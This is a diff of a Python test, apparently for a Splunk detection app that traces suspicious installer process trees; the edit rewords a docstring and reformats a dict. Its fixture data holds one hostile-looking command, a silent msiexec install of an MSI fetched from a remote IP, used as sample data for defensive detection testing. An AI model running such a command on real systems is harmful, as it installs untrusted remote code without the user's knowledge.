@@ -385,10 +385,15 @@ def test_the_workflow_action_on_a_risk_event_opens_its_tree(
 
 
 def test_the_link_to_a_tree_of_one_process_is_a_time_range(app: App, built_app: Path) -> None:
-    """Its first and its last time are the same, and Splunk refuses a range that ends as it begins."""
+    """Its first and last time are the same, and Splunk refuses a range that ends as it begins."""
     conf = stanzas(built_app / "default" / "workflow_actions.conf")
     keys = conf["installer_tree_of_finding"]
-    process = {"_time": data.NOW - 7200, "dest": "h", "process_id": 7, "process_name": "msiexec.exe"}
+    process = {
+        "_time": data.NOW - 7200,
+        "dest": "h",
+        "process_id": 7,
+        "process_name": "msiexec.exe",
+    }
     command = "msiexec /q /i http://203.0.113.7/a.msi"
     events = {"Endpoint.Processes": [{**process, "process": command}]}
     lowest = {"installer_risk_threshold": "0", "installer_notable_threshold": "0"}
